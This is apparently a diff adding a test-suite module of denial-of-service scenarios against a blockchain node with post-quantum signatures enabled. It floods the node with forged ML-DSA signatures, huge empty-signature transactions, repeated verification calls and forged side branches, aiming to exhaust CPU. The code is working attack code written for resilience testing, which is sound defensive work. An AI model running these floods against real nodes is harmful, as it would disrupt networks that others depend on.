@@ -1,0 +1,340 @@
+/**
+ * Floods of post-quantum signatures, each of which takes some milliseconds to verify where one of secp256k1 takes a twentieth: on a
+ * node of Nile with both schemes on. The attacker's account has five such keys; its signatures are right, but for another message.
+ */
+
+import { setTimeout as sleep } from "node:timers/promises";
+import {
+	ApplicationType,
+	decodeInventory,
+	encodeInventory,
+	encodeTransactions,
+	InventoryKind,
+} from "../../../src/node/network/wire/application-messages.js";
+import { refBlockOf } from "../../../src/protocol/block.js";
+import { be32, concatBytes, fromHex, toHex, toKey } from "../../../src/protocol/bytes.js";
+import type { Message } from "../../../src/protocol/codec/descriptor.js";
+import { contractTypeByName } from "../../../src/protocol/contract-types.js";
+import {
+	AccountPermissionUpdateContract,
+	Key,
+	Permission,
+	PermissionPermissionType,
+	PQAuthSig,
+	Transaction,
+	TransferContract,
+} from "../../../src/protocol/messages.js";
+import { loadPostQuantum, postQuantumAlgorithm } from "../../../src/protocol/post-quantum/algorithms.js";
+import { transactionFieldsOf } from "../../../src/protocol/post-quantum/fields.js";
+import { addressOfPostQuantumKey, ML_DSA_44 } from "../../../src/protocol/post-quantum/schemes.js";
+import { addressOfPrivateKey, sign } from "../../../src/protocol/signature.js";
+import { buildTransaction, SignedTransaction } from "../../../src/protocol/transaction.js";
+import { assemble } from "../../node/vm/assembler.js";
+import { ask } from "../ask.js";
+import { type Attack, attackerHost, type Probe, tally } from "../attack.js";
+import { AttackPeer } from "../attack-peer.js";
+import { grpcCall } from "../grpc-call.js";
+import { RICH_KEY } from "../template.js";
+import type { Victim } from "../victim.js";
+import { lieAbout } from "./branches.js";
+import { constantCall } from "./servers.js";
+import { type Head, headOf, send } from "./transactions.js";
+
+await loadPostQuantum();
+
+const OWNER = addressOfPrivateKey(RICH_KEY);
+const SENDERS = 8;
+
+const configuration = (): string =>
+	"node.network = nile, committee.allowFnDsa512 = 1, committee.allowMlDsa44 = 1";
+
+/** A right signature of another message, by a key of its own. */
+function entryOf(number: number): PQAuthSig {
+	const algorithm = postQuantumAlgorithm(ML_DSA_44);
+	const { publicKey, privateKey } = algorithm.keysOfSeed(new Uint8Array(32).fill(number));
+	const signature = algorithm.sign(new Uint8Array(32), privateKey);
+	return PQAuthSig.create({ scheme: ML_DSA_44.id, public_key: publicKey, signature });
+}
+
+const own = [1, 2, 3, 4, 5].map(entryOf);
+const stranger = entryOf(6);
+
+/** A transaction of the attacker's account, another one by each number, not signed. */
+function unsigned(head: Head, name: string, parameter: Message, number: number): Transaction {
+	const contract = contractTypeByName(name);
+	if (!contract) throw new Error(`there is no ${name}`);
+	const headMs = BigInt(head.block_header.raw_data.timestamp);
+	const built = buildTransaction(contract, parameter, {
+		...refBlockOf(fromHex(head.blockID)),
+		expirationMs: headMs + 600_000n,
+		timestampMs: headMs + BigInt(number),
+	});
+	return Transaction.create({ raw_data: built.raw as never });
+}
+
+function transferWith(head: Head, number: number, entries: readonly PQAuthSig[]): SignedTransaction {
+	const to_address = addressOfPrivateKey(Buffer.alloc(32, 1));
+	const parameter = TransferContract.create({ owner_address: OWNER, to_address, amount: 1n });
+	const message = unsigned(head, "TransferContract", parameter, number);
+	message.$unknown = transactionFieldsOf(entries);
+	return new SignedTransaction(message);
+}
+
+/** As many of these signatures, of which the first ones are the account's own, and their message. */
+function rightfullyBy(head: Head, number: number, entries: readonly number[]): SignedTransaction {
+	const { id } = transferWith(head, number, []);
+	const algorithm = postQuantumAlgorithm(ML_DSA_44);
+	const signed = entries.map((seed) => {
+		const { publicKey, privateKey } = algorithm.keysOfSeed(new Uint8Array(32).fill(seed));
+		const signature = algorithm.sign(id, privateKey);
+		return PQAuthSig.create({ scheme: ML_DSA_44.id, public_key: publicKey, signature });
+	});
+	return transferWith(head, number, [...signed, stranger]);
+}
+
+/** Gives the attacker's account its five keys, and waits until a block has them. */
+async function takeKeys(victim: Victim): Promise<Head> {
+	const head = await headOf(victim);
+	const keys = own.map(({ public_key }) =>
+		Key.create({ address: addressOfPostQuantumKey(public_key), weight: 1n }),
+	);
+	// Transfers alone.
+	const operations = Uint8Array.of(0x02, ...new Uint8Array(31));
+	const parameter = AccountPermissionUpdateContract.create({
+		owner_address: OWNER,
+		owner: Permission.create({ permission_name: "owner", threshold: 5n, keys }),
+		actives: [
+			Permission.create({
+				type: PermissionPermissionType.Active,
+				permission_name: "active",
+				threshold: 1n,
+				operations,
+				keys: [Key.create({ address: OWNER, weight: 1n })],
+			}),
+		],
+	});
+	const message = unsigned(head, "AccountPermissionUpdateContract", parameter, 0);
+	const { id } = new SignedTransaction(message);
+	message.signature = [sign(id, RICH_KEY)];
+	const code = await send(victim, new SignedTransaction(message), attackerHost(0));
+	if (code !== "SUCCESS") throw new Error(`no keys: ${code}`);
+	await sleep(4000);
+	return headOf(victim);
+}
+
+/** Several senders at a time. @param once sends something and says how it was answered */
+async function fromAll(durationMs: number, once: (number: number, host: string) => Promise<string>) {
+	const outcomes: string[] = [];
+	const end = Date.now() + durationMs;
+	let number = 1;
+	const sender = async (n: number): Promise<void> => {
+		while (Date.now() < end) outcomes.push(await once(number++, attackerHost(n)));
+	};
+	await Promise.all(Array.from({ length: SENDERS }, (_, n) => sender(n)));
+	return tally(outcomes);
+}
+
+const broadcastForged: Attack = {
+	name: "pq-broadcast-forged",
+	sends: "transactions with five forged ML-DSA signatures by the account's own keys, from 8 senders",
+	configuration,
+	async run(victim, durationMs) {
+		const head = await takeKeys(victim);
+		return fromAll(durationMs, (number, host) => send(victim, transferWith(head, number, own), host));
+	},
+};
+
+const broadcastForeign: Attack = {
+	name: "pq-broadcast-foreign",
+	sends: "transactions with four right ML-DSA signatures and a stranger's, from 8 senders",
+	configuration,
+	async run(victim, durationMs) {
+		const head = await takeKeys(victim);
+		const prepared = [1, 2, 3, 4].map((number) => rightfullyBy(head, number, [1, 2, 3, 4]));
+		return fromAll(durationMs, (number, host) =>
+			send(victim, prepared[number % prepared.length] as SignedTransaction, host),
+		);
+	},
+};
+
+const JSON_TYPE = { "content-type": "application/json" };
+
+/** A body of the two queries: the transaction as JSON. */
+function queryBody(transaction: SignedTransaction, entries: readonly PQAuthSig[]): string {
+	const { raw } = transaction;
+	const contract = {
+		type: "TransferContract",
+		parameter: {
+			type_url: "type.googleapis.com/protocol.TransferContract",
+			value: { owner_address: toHex(OWNER), to_address: toHex(OWNER), amount: 1 },
+		},
+	};
+	return JSON.stringify({
+		raw_data: { contract: [contract], timestamp: Number(raw?.timestamp ?? 0n) },
+		pq_auth_sig: entries.map(({ scheme, public_key, signature }) => ({
+			scheme,
+			public_key: toHex(public_key),
+			signature: toHex(signature),
+		})),
+	});
+}
+
+const probe: Probe = { server: "http", path: "/wallet/getsignweight", body: "{}", host: attackerHost(100) };
+
+const queries: Attack = {
+	name: "pq-queries",
+	sends:
+		"getsignweight and getapprovedlist of five forged ML-DSA signatures, by HTTP and gRPC, from 8 clients",
+	configuration,
+	meanwhile: probe,
+	async run(victim, durationMs) {
+		const head = await takeKeys(victim);
+		return fromAll(durationMs, async (number, host) => {
+			const transaction = transferWith(head, number, own);
+			const isList = number % 2 === 0;
+			if (number % 4 < 2) {
+				const path = `/protocol.Wallet/GetTransaction${isList ? "ApprovedList" : "SignWeight"}`;
+				const { bytes } = transaction;
+				return grpcCall(
+					victim.ports.grpc,
+					path,
+					Buffer.concat([Uint8Array.of(0), be32(bytes.length), bytes]),
+					host,
+				);
+			}
+			const path = `/wallet/${isList ? "getapprovedlist" : "getsignweight"}`;
+			const options = { host, headers: JSON_TYPE, timeoutMs: 30_000 };
+			return ask(victim.ports.http, path, queryBody(transaction, own), options).then(
+				(text) => /"message": ?"([^"]{0,40})/.exec(text)?.[1] ?? "answered",
+				(error: Error) => `closed (${error.message})`,
+			);
+		});
+	},
+};
+
+/** Announces transactions from several addresses and gives them to the node when it asks. */
+function announced(
+	name: string,
+	sends: string,
+	make: (head: Head, number: number) => SignedTransaction,
+	batchSize: number,
+): Attack {
+	return {
+		name,
+		sends,
+		configuration,
+		async run(victim, durationMs) {
+			const head = await takeKeys(victim);
+			let number = 1;
+			const outcomes: string[] = [];
+			const end = Date.now() + durationMs;
+			const sender = async (n: number): Promise<void> => {
+				for (let round = 0; Date.now() < end; round++) {
+					const host = attackerHost(n + SENDERS * round);
+					const peer = await AttackPeer.greet(victim.ports, { host }).catch(() => undefined);
+					if (!peer) {
+						await sleep(200);
+						continue;
+					}
+					const offered = new Map<string, SignedTransaction>();
+					let given = 0;
+					peer.on(ApplicationType.FETCH_INV_DATA, (payload) => {
+						const wanted = decodeInventory(payload).ids.flatMap((id) => offered.get(toKey(id)) ?? []);
+						given += wanted.length;
+						if (wanted.length > 0) peer.say(ApplicationType.TXS, encodeTransactions(wanted));
+					});
+					while (Date.now() < end && peer.gone === undefined) {
+						const batch = Array.from({ length: batchSize }, () => make(head, number++));
+						for (const each of batch) offered.set(toKey(each.id), each);
+						peer.say(
+							ApplicationType.INVENTORY,
+							encodeInventory(
+								InventoryKind.TX,
+								batch.map(({ id }) => id),
+							),
+						);
+						await peer.until(() => false, 300);
+					}
+					outcomes.push(`${peer.gone ?? "kept"}${given > 0 ? "" : " without a question"}`);
+					peer.end();
+				}
+			};
+			await Promise.all(Array.from({ length: SENDERS }, (_, n) => sender(n)));
+			return tally(outcomes);
+		},
+	};
+}
+
+/** As many empty signatures as a frame can hold. */
+const EMPTY_ENTRIES = new Uint8Array(4_800_000);
+for (let at = 0; at < EMPTY_ENTRIES.length; at += 2) EMPTY_ENTRIES[at] = 0x32;
+
+function emptyEntries(head: Head, number: number): SignedTransaction {
+	return SignedTransaction.decode(concatBytes(transferWith(head, number, []).bytes, EMPTY_ENTRIES));
+}
+
+/** Verifies one signature again and again. */
+function looping(): string {
+	const entry = entryOf(1);
+	const input = concatBytes(new Uint8Array(32), entry.signature, entry.public_key);
+	const length = `0x${toHex(be32(input.length)).slice(4)}`;
+	const code = (at: number): Uint8Array =>
+		assemble(
+			`${length} 0x${toHex(be32(at)).slice(4)} 0x00 CODECOPY
+			loop: 0x00 0x00 ${length} 0x00 0x00 0x02000018 GAS CALL POP @loop JUMP`,
+		);
+	return toHex(concatBytes(code(code(0).length), input));
+}
+
+const machine: Attack = {
+	name: "pq-precompiles",
+	sends: "constant calls that give 0x02000018 a right signature again and again, from 8 clients",
+	configuration,
+	meanwhile: {
+		server: "http",
+		path: "/wallet/triggerconstantcontract",
+		body: constantCall(toHex(assemble("STOP"))),
+		host: attackerHost(100),
+	},
+	async run({ ports }, durationMs) {
+		const body = constantCall(looping());
+		return fromAll(durationMs, (_, host) =>
+			ask(ports.http, "/wallet/triggerconstantcontract", body, {
+				host,
+				timeoutMs: 30_000,
+			}).then(
+				() => "answered",
+				(error: Error) => `closed (${error.message})`,
+			),
+		);
+	},
+};
+
+const fullOfEntries = (): readonly SignedTransaction[] => {
+	const head = { blockID: "00".repeat(32), block_header: { raw_data: { timestamp: 0 } } };
+	return Array.from({ length: 100 }, (_, number) => transferWith(head, number, own));
+};
+
+export const postQuantum: readonly Attack[] = [
+	broadcastForged,
+	broadcastForeign,
+	queries,
+	announced(
+		"pq-announced",
+		"announced transactions with five forged ML-DSA signatures, from 8 peers",
+		(head, number) => transferWith(head, number, own),
+		20,
+	),
+	announced(
+		"pq-announced-empty",
+		"announced transactions with 2.4 M empty signatures, from 8 peers",
+		emptyEntries,
+		1,
+	),
+	machine,
+	lieAbout(
+		"pq-blocks",
+		"side branches of 12 blocks with 500 forged ML-DSA signatures each, signed by a random key",
+		{ depth: 14, length: 12, contents: fullOfEntries, configuration },
+	),
+];
